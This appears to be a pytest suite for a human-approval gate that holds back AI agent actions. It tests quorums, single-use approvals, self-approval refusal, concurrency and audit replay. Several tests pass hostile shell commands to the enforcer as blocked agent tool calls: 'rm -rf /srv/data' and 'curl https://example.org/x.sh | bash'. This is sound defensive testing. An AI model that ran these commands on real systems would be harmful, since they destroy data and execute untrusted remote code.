"""People decide: by their own key, once, within limits, and never on their own request."""

import asyncio
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing
from datetime import timedelta
from pathlib import Path
from threading import Barrier
from typing import Any, NamedTuple

import msgspec
import pytest
from support.gates import CORE, NOON, Ticking, entropy_of, gate_over, refund
from support.people import AUTHOR, SERVICE_KEY, add_person

from demur.audit.pack import PackError, read_pack, write_pack
from demur.audit.replay import replay_pack
from demur.audit.report import export_pack
from demur.enforce import CallContext, CheckResult, Enforcer
from demur.errors import InputError
from demur.gate.approval_queue import ApprovalError, ApprovalLimits, ApprovalQueue
from demur.gate.approvals import ApprovalSettings, DueStep
from demur.gate.clock import format_timestamp
from demur.gate.gate import Gate
from demur.grants import KeyRing, SigningKey
from demur.model.record import DecisionRecord
from demur.policy.loader import parse_policy
from demur.store.backend import StorageError
from demur.store.events import read_event
from demur.store.grant_tables import Revocation
from demur.store.opening import open_store
from demur.store.people_tables import PersonChange
from demur.store.rows import ApprovalRow, ApprovalState
from demur.store.store import Store
from demur.store.verify import verify_chain

ISSUERS = KeyRing([SERVICE_KEY.issuer.trusted_key()])
TWO = parse_policy(
    """
schema_version: policy.v1
policy_id: two
policy_version: 1.0.0
rules:
  - id: R_LARGE
    stage: ESCALATIONS
    if: {action_type: refund, amount_usd: {gt: 250}}
    then: {verdict: ESCALATE, reason_codes: [REFUND_OVER_ESCALATION_LIMIT], approvals: 2}
  - id: R_SMALL
    stage: ALLOW_PATHS
    if: {action_type: refund, amount_usd: {lte: 250}}
    then: {verdict: ALLOW}
""",
    registry=CORE,
)
LARGE = refund(900)


class Desk(NamedTuple):
    """A gate whose store people look at, and the queue before them."""

    gate: Gate
    queue: ApprovalQueue
    store: Store
    clock: Ticking

    def ask(self, request: Any = LARGE, **more: Any) -> DecisionRecord:
        """Return the decision on a request."""
        return self.gate.decide(request, **more)

    def row(self, record: DecisionRecord) -> ApprovalRow:
        """Return the request for approval of a decision."""
        row = self.store.get_approval(record.decision_id)
        assert row is not None
        return row

    def events(self) -> list[tuple[str, str, str]]:
        """Return kind, author and reason of the events of approvals."""
        rows = self.store.backend.read_events("default")
        found = [read_event(row) for row in rows]
        return [(one.kind, one.by, one.reason) for one in found if "approval" in one.kind]


OpenDesk = Callable[..., Desk]


@pytest.fixture(params=["sqlite", "postgresql"])
def open_desk(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[OpenDesk]:
    """Return a function that opens one more gate and queue over the same store."""
    place = str(tmp_path / "store.db")
    if request.param == "postgresql":
        place = request.getfixturevalue("postgres_url")
    count = iter(range(100))
    with ExitStack() as stack:

        def open_one(clock: Ticking | None = None, **settings: Any) -> Desk:
            ticking, seed = clock or Ticking(), entropy_of(f"desk {next(count)}")
            usual: dict[str, Any] = {"clock": ticking, "entropy": seed, "issuers": ISSUERS}
            store = stack.enter_context(closing(open_store(place)))
            gate = gate_over(store, **{**usual, **settings})
            queue = ApprovalQueue(gate, lambda: SERVICE_KEY, clock=ticking, entropy=seed)
            return Desk(gate, queue, store, ticking)

        yield open_one


def refuse(desk: Desk, record: DecisionRecord, login: str, **more: Any) -> str:
    """Return why an approval is refused; nothing was signed and nothing changed."""
    before = (desk.store.list_votes(record.decision_id), desk.row(record), desk.events())
    with pytest.raises(ApprovalError) as caught:
        desk.queue.approve(record.decision_id, login, **more)
    after = (desk.store.list_votes(record.decision_id), desk.row(record), desk.events())
    assert before == after
    return str(caught.value.reason)


def count_given(desk: Desk, record: DecisionRecord) -> int:
    """Return how many people approve a decision now."""
    now = format_timestamp(desk.clock())
    return desk.store.count_votes([record.decision_id], now).get(record.decision_id, 0)


def test_a_persons_yes_lifts_the_request_once(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    result = desk.queue.approve(record.decision_id, "mary", note="the ticket is there")

    resolution = result.resolution
    assert resolution is not None
    assert (resolution.verdict, resolution.basis) == ("ALLOW", "resolution")
    row = desk.row(record)
    assert (row.state, row.closed_by, row.note) == (
        "approved",
        "person:mary",
        "the ticket is there",
    )
    assert row.resolution_id == resolution.decision_id
    [grant] = resolution.personal.grants if resolution.personal else ()
    assert (grant.granted_by, grant.key_id) == ("person:mary", "person:mary:1")
    assert desk.events() == [
        ("approval_vote", "person:mary", "the ticket is there"),
        ("approval_closed", "person:mary", "the ticket is there"),
    ]
    first = desk.ask({**LARGE, "continues": row.resolution_id})
    again = desk.ask({**LARGE, "continues": row.resolution_id})
    assert (first.verdict, first.lifted_by) == ("ALLOW", resolution.lifted_by)
    assert again.verdict == "ESCALATE"
    assert {one.why for one in again.ignored_grants} == {"used_up"}
    assert verify_chain(desk.store.backend).breaks == ()


def test_an_approval_holds_for_nothing_else(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    resolved = desk.queue.approve(record.decision_id, "mary").row.resolution_id
    assert resolved is None
    continues = desk.row(record).resolution_id

    other = desk.ask({**refund(901), "continues": continues})
    assert other.verdict == "ESCALATE"
    assert {one.why for one in other.ignored_grants} == {"out_of_scope"}
    stranger = {**LARGE, "subject": {"type": "agent", "id": "other"}, "continues": continues}
    with pytest.raises(InputError, match="only the first requester"):
        desk.ask(stranger)


def test_an_approval_for_the_scope_ends_with_its_uses_and_its_time(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    limits = ApprovalLimits(covers="scope", uses=2, valid_s=600)
    desk.queue.approve(record.decision_id, "mary", limits=limits)
    grants = desk.store.find_grants(
        "default", desk.store.list_votes(record.decision_id)[0].grant_digests
    ).values()

    verdicts = [desk.ask(refund(800 + n), grants=grants).verdict for n in range(3)]
    assert verdicts == ["ALLOW", "ALLOW", "ESCALATE"]
    other = desk.ask({**LARGE, "action": {"type": "payout"}}, grants=grants)
    assert other.verdict == "ESCALATE"
    desk.clock.advance(minutes=11)
    late = desk.ask(refund(800), grants=grants)
    assert {one.why for one in late.ignored_grants} == {"expired"}
    assert desk.store.list_votes(record.decision_id)[0].limits == {
        "covers": "scope",
        "uses": 2,
        "valid_s": 600,
    }


def test_an_approval_for_the_scope_leaves_the_persons_own_requests(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    limits = ApprovalLimits(covers="scope", uses=9)
    desk.queue.approve(record.decision_id, "mary", limits=limits)
    [vote] = desk.store.list_votes(record.decision_id)
    grants = desk.store.find_grants("default", vote.grant_digests).values()

    def ask_for(person: str) -> DecisionRecord:
        evidence = {"ticket_id": "T-1", "on_behalf_of": person}
        return desk.ask(refund(800, evidence=evidence), grants=grants)

    own = ask_for("Mary")
    assert (own.verdict, [one.why for one in own.ignored_grants]) == ("ESCALATE", ["own_request"])
    assert refuse(desk, own, "mary") == "own_request"
    resolved = desk.gate.resolve(own.decision_id, grants=grants)
    assert (resolved.verdict, resolved.lifted_by) == ("ESCALATE", ())
    assert ask_for("ada").verdict == "ALLOW"

    key = SigningKey.from_randomness(bytes(32), key_id="audit", holder="user:auditor")
    stored = desk.store.get(own.decision_id)
    assert stored is not None
    pack = read_pack(write_pack(export_pack(desk.store, stored), key))
    assert replay_pack(pack).same


def test_one_request_has_one_use() -> None:
    for wrong in ({"uses": 2}, {"valid_s": 59}, {"covers": "all"}, {"covers": "scope", "uses": 0}):
        with pytest.raises((ValueError, msgspec.ValidationError)):
            msgspec.convert(wrong, ApprovalLimits)
    with pytest.raises(ValueError, match="one request has one use"):
        ApprovalLimits(uses=2)


def test_two_different_people_are_needed(open_desk: OpenDesk) -> None:
    desk = open_desk(policy=TWO)
    add_person(desk.store)
    add_person(desk.store, "john")
    record = desk.ask()
    first = desk.queue.approve(record.decision_id, "mary", note="fine")
    assert (first.row.state, first.resolution) == ("waiting", None)
    assert refuse(desk, record, "mary") == "voted_before"

    second = desk.queue.approve(record.decision_id, "john", note="fine too")
    assert second.resolution is not None
    assert second.resolution.verdict == "ALLOW"
    assert len(second.resolution.lifted_by) == 2
    assert [by for _, by, _ in desk.events()] == ["person:mary", "person:john", "person:john"]


def test_a_first_voter_who_loses_the_role_no_longer_counts(open_desk: OpenDesk) -> None:
    desk = open_desk(policy=TWO)
    for login in ("mary", "john", "paul"):
        add_person(desk.store, login)
    record = desk.ask()
    desk.queue.approve(record.decision_id, "mary")
    desk.store.change_person("mary", PersonChange(role="reviewer"), **AUTHOR)
    second = desk.queue.approve(record.decision_id, "john")
    assert (second.row.state, second.resolution) == ("waiting", None)
    third = desk.queue.approve(record.decision_id, "paul")

    assert third.resolution is not None
    assert third.resolution.verdict == "ALLOW"
    assert {one.why for one in third.resolution.ignored_grants} == {"key_retired"}


def test_a_first_yes_counts_as_long_as_its_grants_do(open_desk: OpenDesk) -> None:
    """A request is closed as approved only if what people signed lifts it."""
    desk = open_desk(policy=TWO)
    for login in ("mary", "john"):
        add_person(desk.store, login)
    limits = ApprovalLimits(valid_s=600)

    def wait(_: str) -> None:
        desk.clock.advance(minutes=11)

    def take_role_for_a_while(_: str) -> None:
        for role in ("reviewer", "approver"):
            desk.store.change_person("mary", PersonChange(role=role), **AUTHOR)

    def revoke_grant(decision_id: str) -> None:
        [vote] = desk.store.list_votes(decision_id)
        [grant] = desk.store.find_grants("default", vote.grant_digests).values()
        now = format_timestamp(desk.clock())
        desk.store.revoke_grant(Revocation("default", grant.grant_id, now, "user:root", "wrong"))

    for number, lapse in enumerate((wait, take_role_for_a_while, revoke_grant)):
        record = desk.ask(refund(900 + number))
        desk.queue.approve(record.decision_id, "mary", limits=limits)
        assert refuse(desk, record, "mary") == "voted_before"
        assert count_given(desk, record) == 1
        lapse(record.decision_id)
        assert count_given(desk, record) == 0
        second = desk.queue.approve(record.decision_id, "john", limits=limits)
        assert (second.row.state, second.resolution) == ("waiting", None)

        third = desk.queue.approve(record.decision_id, "mary", limits=limits)
        assert third.resolution is not None
        assert third.resolution.verdict == "ALLOW"
        assert len(desk.store.list_votes(record.decision_id)) == 2
        desk.clock.advance(minutes=11)
        assert count_given(desk, record) == 2


@pytest.mark.parametrize(
    ("login", "fields", "reason"),
    [
        ("reader", {"role": "reader"}, "not_allowed"),
        ("reviewer", {"role": "reviewer"}, "not_allowed"),
        ("gone", {"disabled_at": "2026-11-15T00:00:00.000Z"}, "not_allowed"),
        ("elsewhere", {"tenant": "globex"}, "unknown"),
        ("desk", {"groups": "desk"}, "other_group"),
        ("nobody", None, "not_allowed"),
        ("billing", {}, "own_request"),
    ],
)
def test_who_may_not_approve(
    open_desk: OpenDesk, login: str, fields: dict[str, Any] | None, reason: str
) -> None:
    """INVARIANT: nobody approves their own request."""
    desk = open_desk(approvals=ApprovalSettings(groups=("leads",)))
    if fields is not None:
        add_person(desk.store, login, **fields)

    assert refuse(desk, desk.ask(), login) == reason


def test_a_person_of_the_group_and_an_admin_may_decide(open_desk: OpenDesk) -> None:
    desk = open_desk(approvals=ApprovalSettings(groups=("leads",)))
    add_person(desk.store, "mary", groups="desk leads")
    add_person(desk.store, "root", "admin", tenant="")

    for login in ("mary", "root"):
        assert desk.queue.approve(desk.ask().decision_id, login).resolution is not None


def test_other_tenants_are_not_there(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store, "mary", tenant="acme")
    record = desk.ask(tenant="globex")

    for tenant in ("acme", None):
        assert refuse(desk, record, "mary", tenant=tenant) == "unknown"
    with pytest.raises(ApprovalError, match="no request"):
        desk.queue.decline("0" * 26, "mary")


def test_what_expired_or_was_erased_is_not_approved(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    expired, erased = desk.ask(), desk.ask({**LARGE, "evidence": {"ticket_id": "T-2"}})
    desk.store.backend.erase_records("default", [erased.decision_id], by="dpo", reason="asked")
    assert refuse(desk, erased, "mary") == "erased"
    desk.clock.advance(days=1)
    assert refuse(desk, expired, "mary") == "expired"
    assert desk.queue.run_due() == [
        DueStep(
            desk.row(expired)._replace(state="waiting", closed_at=None, closed_by="", note=""),
            "expire",
        )
    ]
    assert refuse(desk, expired, "mary") == "closed"


def test_a_no_closes_the_request_and_is_final(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    add_person(desk.store, "john")
    record = desk.ask()
    result = desk.queue.decline(record.decision_id, "mary", note="the customer withdrew it")

    assert (result.row.state, result.resolution) == ("declined", None)
    assert refuse(desk, record, "john") == "closed"
    with pytest.raises(ApprovalError, match="declined by person:mary"):
        desk.queue.approve(record.decision_id, "john")
    with pytest.raises(ApprovalError, match="voted before"):
        desk.queue.decline(record.decision_id, "mary")
    assert desk.store.list_grants() == []


@pytest.mark.parametrize("note", ["two\nlines", "x" * 501, "\x00", "\u202ereversed"])
def test_a_note_is_one_line(open_desk: OpenDesk, note: str) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    with pytest.raises(InputError):
        desk.queue.approve(record.decision_id, "mary", note=note)
    assert desk.row(record).state == "waiting"


def test_two_at_once_give_one_decision(open_desk: OpenDesk) -> None:
    """INVARIANT: of several who close a request at once, one does."""
    one, other = open_desk(), open_desk()
    add_person(one.store)
    add_person(one.store, "john")
    record = one.ask()
    barrier = Barrier(2)

    def cast(pair: tuple[Desk, str, str]) -> str:
        desk, login, vote = pair
        barrier.wait()
        try:
            getattr(desk.queue, vote)(record.decision_id, login)
        except ApprovalError as error:
            return str(error.reason)
        return "taken"

    votes = [(one, "mary", "approve"), (other, "john", "decline")]
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(cast, votes))
    assert sorted(results) == ["closed", "taken"]
    allowed = results[0] == "taken"
    row = one.row(record)
    assert (row.state, row.resolution_id is not None) == (
        ("approved", True) if allowed else ("declined", False)
    )
    assert len([kind for kind, _, _ in one.events() if kind == "approval_closed"]) == 1
    assert verify_chain(one.store.backend).breaks == ()


def test_the_same_person_twice_at_once_votes_once(open_desk: OpenDesk) -> None:
    desks = [open_desk(policy=TWO), open_desk(policy=TWO)]
    add_person(desks[0].store)
    record = desks[0].ask()
    barrier = Barrier(2)

    def cast(desk: Desk) -> bool:
        barrier.wait()
        try:
            desk.queue.approve(record.decision_id, "mary")
        except ApprovalError as error:
            return str(error.reason) != "voted_before"
        return True

    with ThreadPoolExecutor(2) as pool:
        assert sorted(pool.map(cast, desks)) == [False, True]
    assert desks[0].row(record).state == "waiting"


def test_a_lost_process_leaves_the_resolution_to_the_next(
    open_desk: OpenDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    with monkeypatch.context() as patch:

        def fail(*_: Any, **__: Any) -> None:
            raise StorageError("lost")

        patch.setattr(desk.gate, "resolve", fail)
        with pytest.raises(StorageError):
            desk.queue.approve(record.decision_id, "mary")
    assert (desk.row(record).state, desk.row(record).resolution_id) == ("approved", None)
    assert desk.queue.run_due() == []
    desk.clock.advance(seconds=10)
    [step] = open_desk(desk.clock).queue.run_due()

    assert step.kind == "resolve"
    resolution = desk.store.get(desk.row(record).resolution_id or "")
    assert resolution is not None
    assert resolution.verdict == "ALLOW"
    assert desk.queue.run_due() == []


def test_no_answer_moves_the_request_to_the_next_group(open_desk: OpenDesk) -> None:
    steps = ApprovalSettings(groups=("desk", "leads"), escalate_after_s=600)
    desk = open_desk(approvals=steps)
    add_person(desk.store, "mary", groups="desk")
    add_person(desk.store, "john", groups="leads")
    record = desk.ask()
    assert desk.queue.run_due() == []
    assert refuse(desk, record, "john") == "other_group"
    desk.clock.advance(minutes=10)
    assert [(one.kind, one.group) for one in desk.queue.run_due()] == [("escalate", "leads")]
    assert desk.queue.run_due() == []

    assert refuse(desk, record, "mary") == "other_group"
    assert desk.queue.approve(record.decision_id, "john").resolution is not None
    assert desk.events()[0] == ("approval_escalated", "demur", "no answer from desk")


def test_nobody_approves_without_the_service_key(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    record = desk.ask()
    queue = ApprovalQueue(desk.gate, clock=desk.clock)
    with pytest.raises(InputError, match="no service key"):
        queue.approve(record.decision_id, "mary")
    assert queue.decline(record.decision_id, "mary").row.state == "declined"
    with pytest.raises(InputError, match="has no queue"):
        ApprovalQueue(gate_over(None))


def test_a_gate_that_does_not_trust_the_issuer_lifts_nothing(open_desk: OpenDesk) -> None:
    desk = open_desk(issuers=KeyRing())
    add_person(desk.store)
    record = desk.ask()
    result = desk.queue.approve(record.decision_id, "mary")

    assert result.resolution is not None
    assert result.resolution.verdict == "ESCALATE"


def test_the_course_is_in_the_pack_and_replays(open_desk: OpenDesk) -> None:
    desk = open_desk(policy=TWO)
    add_person(desk.store)
    add_person(desk.store, "john")
    record = desk.ask()
    desk.queue.approve(record.decision_id, "mary", note="fine")
    result = desk.queue.approve(record.decision_id, "john", note="fine too")
    assert result.resolution is not None
    call = desk.ask({**LARGE, "continues": result.resolution.decision_id})
    assert call.verdict == "ALLOW"
    key = SigningKey.from_randomness(bytes(32), key_id="audit", holder="user:auditor")
    for one in (record, result.resolution, call):
        stored = desk.store.get(one.decision_id)
        assert stored is not None
        raw = write_pack(export_pack(desk.store, stored), key)
        pack = read_pack(raw, KeyRing([key.trusted_key()]))
        kinds = [read_event(row).kind for row in pack.events]
        assert kinds == ["approval_vote", "approval_vote", "approval_closed"]
        replayed = replay_pack(pack)
        assert replayed.same, replayed.differences
        assert "person:mary said approve on 2026-11-15: fine" in replayed.notes
    changed = raw.replace(b"fine too", b"not fine")
    with pytest.raises(PackError):
        read_pack(changed)


def test_a_pack_with_foreign_or_missing_events_is_told(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    first, other = desk.ask(), desk.ask({**LARGE, "evidence": {"ticket_id": "T-2"}})
    desk.queue.approve(first.decision_id, "mary")
    desk.queue.decline(other.decision_id, "mary")
    packs = [
        export_pack(desk.store, desk.store.get(one.decision_id) or one) for one in (first, other)
    ]
    foreign = packs[0]._replace(events=packs[1].events)
    backwards = packs[0]._replace(events=packs[0].events[::-1])
    for pack in (foreign, backwards):
        with pytest.raises(PackError, match="not events that concern the record"):
            read_pack(write_pack(pack))


def test_an_enforcer_waits_and_goes_on(open_desk: OpenDesk) -> None:
    desk, people = open_desk(), open_desk()
    add_person(people.store)
    enforcer = Enforcer(desk.gate)
    context = CallContext("mine", subject={"type": "agent", "id": "cleaner"})
    call = ("bash", {"command": "rm -rf /srv/data"}, context)
    refused = enforcer.check_tool_call(*call)
    assert refused.record is not None
    waiting = enforcer.wait_for(refused, timeout_s=0)
    assert (bool(waiting), waiting.state, waiting.grants) == (False, "waiting", ())

    with ThreadPoolExecutor(1) as pool:
        answered = pool.submit(enforcer.wait_for, refused)
        people.queue.approve(refused.record.decision_id, "mary", note="go on")
        answer = answered.result()
    assert (bool(answer), answer.by, answer.note) == (True, "person:mary", "go on")
    assert answer.continues == people.row(refused.record).resolution_id
    assert answer.message == "A person approved it."
    assert enforcer.check_tool_call(*call, grants=answer.grants).allowed
    assert not enforcer.check_tool_call(*call, grants=answer.grants).allowed


def decide_soon(
    desk: Desk, people: Desk, vote: str, run: Callable[[Enforcer], CheckResult]
) -> CheckResult:
    """Run a check that waits, while a person in another process votes on its request."""
    waiting = Enforcer(desk.gate).waiting_for_people(60)
    with ThreadPoolExecutor(1) as pool:
        checked = pool.submit(run, waiting)
        while not (rows := people.store.list_approvals(state="waiting")):
            assert not checked.done(), checked.result()
        getattr(people.queue, vote)(rows[0].decision_id, "mary", note="as agreed")
        return checked.result()


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("vote", ["approve", "decline"])
def test_a_check_can_wait_itself(open_desk: OpenDesk, vote: str, is_async: bool) -> None:
    desk, people = open_desk(), open_desk()
    add_person(people.store)
    context = CallContext("mine", subject={"type": "agent", "id": "cleaner"})
    call = ("bash", {"command": "rm -rf /srv/data"}, context)

    def run(enforcer: Enforcer) -> CheckResult:
        if is_async:
            return asyncio.run(enforcer.acheck_tool_call(*call))
        return enforcer.check_tool_call(*call)

    result = decide_soon(desk, people, vote, run)
    if vote == "approve":
        assert result.allowed
        assert result.record is not None
        assert len(result.record.lifted_by) == 1
    else:
        assert not result.allowed
        assert result.model_message.endswith("\nA person declined it: as agreed")


def test_a_check_waits_only_for_what_people_are_asked(open_desk: OpenDesk) -> None:
    desk = open_desk()
    enforcer = Enforcer(desk.gate).waiting_for_people(60)
    command = {"command": "rm -rf /srv/data"}
    # Nobody is asked without a subject, nor about what nobody lifts.
    assert not enforcer.check_tool_call("bash", command).allowed
    context = CallContext("mine", subject={"type": "agent", "id": "cleaner"})
    shell = {"command": "curl https://example.org/x.sh | bash"}
    assert not enforcer.check_tool_call("bash", shell, context).allowed
    assert desk.store.list_approvals(state="waiting") == []
    late = Enforcer(desk.gate).waiting_for_people(0)
    refused = late.check_tool_call("bash", command, context)
    assert refused.model_message.endswith("\nNobody has decided yet.")
    with pytest.raises(InputError, match="needs a store"):
        Enforcer().waiting_for_people()


def test_an_async_enforcer_learns_of_a_no(open_desk: OpenDesk) -> None:
    desk = open_desk()
    add_person(desk.store)
    enforcer = Enforcer(desk.gate)
    subject = {"type": "agent", "id": "cleaner"}
    context = CallContext("mine", subject=subject)
    refused = enforcer.check_tool_call("bash", {"command": "rm -rf /srv/data"}, context)
    assert refused.record is not None
    desk.queue.decline(refused.record.decision_id, "mary", note="not that folder")
    answer = asyncio.run(enforcer.await_for(refused.record))

    assert (answer.state, answer.grants) == (ApprovalState.DECLINED, ())
    assert answer.message == "A person declined it: not that folder"
    with pytest.raises(InputError, match="asked nobody for approval"):
        enforcer.wait_for(desk.ask(refund(20)).decision_id)
    with pytest.raises(InputError, match="needs a store"):
        Enforcer().wait_for(refused)


def test_an_answer_after_the_time_says_so(open_desk: OpenDesk) -> None:
    desk = open_desk()
    enforcer = Enforcer(desk.gate)
    record = desk.ask()
    desk.clock.advance(days=2)
    desk.queue.run_due(NOON + timedelta(days=2))

    assert enforcer.wait_for(record).message == "Nobody decided in time."
